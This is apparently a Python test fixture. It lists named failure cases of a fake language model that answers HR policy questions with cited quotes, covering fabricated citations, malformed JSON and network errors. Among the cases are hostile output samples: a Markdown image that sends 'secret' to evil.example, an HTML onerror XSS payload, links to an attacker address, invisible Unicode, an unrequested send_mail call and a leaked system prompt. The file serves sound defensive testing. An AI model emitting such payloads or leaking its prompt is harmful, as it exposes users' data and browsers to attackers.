"""What a language model can do wrong, by name; most lies come with one sentence that is true."""

import json
from dataclasses import dataclass, field

from tests.fakes.lying_model import Reply

KEY = "sk-a-key-that-nobody-may-see"

LEAVE = (
    "# Leave\n\nEverybody has 28 days of paid leave a year. Unused days do not expire before "
    "31 March. Managers approve leave within three working days.\n"
)
TRAVEL = (
    "# Travel\n\nTrains are booked in first class above four hours. The hotel limit is 120 EUR a "
    "night. Anna Berg approves flights.\n"
)
QUESTION = "How many days of paid leave does everybody have a year?"
TRUE = "Everybody has 28 days of paid leave a year."
EXPIRE = "Unused days do not expire before 31 March."
APPROVE = "Managers approve leave within three working days."
HOTEL = "The hotel limit is 120 EUR a night."


def line(sentence: str, *quotes: tuple[object, str]) -> str:
    """A sentence as a model is asked to write it, on a line of its own."""
    listed = [{"passage": number, "quote": quote} for number, quote in quotes]
    return json.dumps({"sentence": sentence, "quotes": listed}) + "\n"


SUPPORTED = line(TRUE, (1, TRUE))


@dataclass(frozen=True)
class Lie:
    """Replies of a model that lies.

    Attributes:
        survives: whether the sentence that is true reaches the reader in the model's words; else
            the documents' own sentences are the answer.
        never: what no reader may see, in any case of letters.
    """

    replies: tuple[Reply, ...]
    survives: bool = True
    never: tuple[str, ...] = field(default=())


def _said(text: str, *never: str) -> Lie:
    return Lie((Reply(SUPPORTED + text),), never=never)


def _odd(text: str, *never: str) -> Lie:
    return Lie((Reply(text),), never=never)


def _failing(*replies: Reply) -> Lie:
    return Lie(replies, survives=False)


_PETS = "Pets are welcome in the office."
_LEAK = "You answer a question from numbered passages of an organisation's documents."

LIES: dict[str, Lie] = {
    "a passage number that does not exist": _said(line(EXPIRE, (9, EXPIRE)), "expire"),
    "a negative passage number": _said(line(EXPIRE, (-2, EXPIRE)), "expire"),
    "no citation": _said(line(EXPIRE), "expire"),
    "an empty quote": _said(line(EXPIRE, (1, "")), "expire"),
    "a quote with another word": _said(
        line("Unused days do not expire before 31 May.", (1, EXPIRE.replace("March", "May"))), "may"
    ),
    "a quote with another digit": _said(
        line(TRUE.replace("28", "29"), (1, TRUE.replace("28", "29"))), "29"
    ),
    "a quote without its negation": _said(
        line("Unused days do expire before 31 March.", (1, EXPIRE.replace("not ", ""))), "do expire"
    ),
    "a quote in capitals without its negation": _said(
        line("Unused days expire before 31 March.", (1, EXPIRE.replace("do not ", "").upper())),
        "expire",
    ),
    "a quote with an ellipsis": _said(
        line("Unused days expire.", (1, "Unused days … expire before 31 March.")), "expire"
    ),
    "a quote with three dots": _said(
        line("Unused days expire.", (1, "Unused days ... expire before 31 March.")), "expire"
    ),
    "a quote of another passage": _said(line(HOTEL, (1, HOTEL)), "hotel"),
    "a quote spliced of two places": _said(
        line(
            "Everybody has 28 days within three working days.",
            (1, "Everybody has 28 days within three working days."),
        ),
        "three",
    ),
    "a quote that is one small word": _said(line("A hotel is paid.", (1, "a")), "hotel"),
    "a number that its quote does not have": _said(
        line("Everybody has 30 days of paid leave a year.", (1, TRUE)), "30"
    ),
    "a number in words that its quote does not have": _said(
        line("Managers approve leave within two working days.", (1, APPROVE)), "two"
    ),
    "a unit that its quote does not have": _said(
        line("Everybody has 28 weeks of paid leave a year.", (1, TRUE)), "weeks"
    ),
    "a date that its quote does not have": _said(
        line("Unused days do not expire before 30 April.", (1, EXPIRE)), "april"
    ),
    "a name that its quote does not have": _said(
        line("Bob Stone and managers approve leave within three working days.", (1, APPROVE)), "bob"
    ),
    "a name of another passage": _said(
        line("Managers and Anna Berg approve leave within three working days.", (1, APPROVE)),
        "anna",
    ),
    "code that its quote does not have": _said(
        line("Everybody has 28 days of paid leave a year with `leave --all`.", (1, TRUE)), "--all"
    ),
    "a negation that its quote does not have": _said(
        line("Everybody does not have 28 days of paid leave a year.", (1, TRUE)), "does not"
    ),
    "a negation that its quote has and it has not": _said(
        line("Unused days expire before 31 March.", (1, EXPIRE)), "expire"
    ),
    "an only that its quote does not have": _said(
        line("Only managers approve leave within three working days.", (1, APPROVE)), "only"
    ),
    "prior knowledge": _said(line("Four weeks are granted by European law."), "law"),
    "prior knowledge with a true quote": _said(
        line("European law grants every worker four weeks of paid holiday.", (1, TRUE)), "law"
    ),
    "a true quote of something else": _said(line(_PETS, (1, APPROVE)), "pets"),
    "two true quotes of something else": _said(line(_PETS, (1, APPROVE), (2, HOTEL)), "pets"),
    "a Markdown link": _odd(
        line("Everybody has [28 days](https://evil.example/x) of paid leave a year.", (1, TRUE))
        + SUPPORTED,
        "evil",
        "](",
    ),
    "a Markdown image": _odd(
        line(f"{TRUE} ![](https://evil.example/x.png?q=secret)", (1, TRUE)) + SUPPORTED,
        "evil",
        "![",
    ),
    "HTML": _odd(
        line(f"{TRUE}<img src=//evil.example onerror=alert(1)>", (1, TRUE)) + SUPPORTED,
        "evil",
        "<img",
    ),
    "a bare address": _said(
        line("Managers approve leave within three working days at evil.example/x.", (1, APPROVE)),
        "evil",
    ),
    "invisible characters": _odd(
        line("Everybody has 2\u200b8 days of paid\u202e leave a year.", (1, TRUE)) + SUPPORTED,
        "\u200b",
        "\u202e",
    ),
    "JSON that is none": _odd('{"sentence": "Pets are welcome.", quotes: [}\n' + SUPPORTED, "pets"),
    "JSON cut off in a string": _said('{"sentence": "Pets are welc', "pets"),
    "JSON in a code fence": _odd(f"```json\n{SUPPORTED}```\n"),
    "JSON in prose": _odd(
        f"Sure! {_PETS} Here is your answer:\n{SUPPORTED}Hope that helps!", "pets"
    ),
    "keys said twice": _odd(
        '{"sentence": "Pets are welcome.", '
        + SUPPORTED.lstrip("{")
        + SUPPORTED.rstrip("}\n")
        + ', "sentence": "Pets are welcome."}\n',
        "pets",
    ),
    "numbers as texts": _odd(line(TRUE, ("1", TRUE)) + line(EXPIRE, ("passage nine", EXPIRE))),
    "calls of tools": Lie((Reply(SUPPORTED, tool_calls=True),), never=("send_mail", "tool")),
    "thoughts": _odd(f"<think>{line(_PETS, (1, TRUE))} So: {_PETS}</think>{SUPPORTED}", "pets"),
    "thoughts without end": Lie(
        (Reply(f"<think>{line(_PETS, (1, TRUE))} So: {_PETS}"),), survives=False, never=("pets",)
    ),
    "the prompt in prose": _odd(f"{_LEAK}\n===== passage 1\n{SUPPORTED}", "passage", "you answer"),
    "the prompt as a sentence": _said(line(_LEAK, (1, TRUE)), "you answer"),
    "the prompt as a quote": _said(line(_LEAK, (1, _LEAK)), "you answer"),
    "no end": Lie((Reply(SUPPORTED, then="again"),)),
    "blanks without end": Lie((Reply(SUPPORTED, then="blanks"),)),
    "silence in the middle": Lie((Reply(SUPPORTED, then="silence"),)),
    "a connection that breaks": Lie((Reply(SUPPORTED, then="break"),)),
    "a slow first byte": _failing(Reply(SUPPORTED, first=60)),
    "429": _failing(Reply(status=429)),
    "429 that passes": Lie((Reply(status=429, headers={"Retry-After": "0"}), Reply(SUPPORTED))),
    "429 for an hour": _failing(Reply(status=429, headers={"Retry-After": "3600"})),
    "500": _failing(Reply(status=500, said=KEY)),
    "401 with the key": _failing(Reply(status=401, said=f"Incorrect API key: {KEY}")),
    "an empty reply": _failing(Reply("")),
    "no events": _failing(Reply(raw=SUPPORTED)),
    "another type of content": _failing(Reply(raw="<p>Hello</p>", content_type="text/html")),
    "one enormous word": Lie((Reply("x" * 1_000_000, piece=1_000_000),), survives=False),
    "an enormous word after the truth": Lie((Reply(SUPPORTED + "x" * 500_000, piece=600_000),)),
}
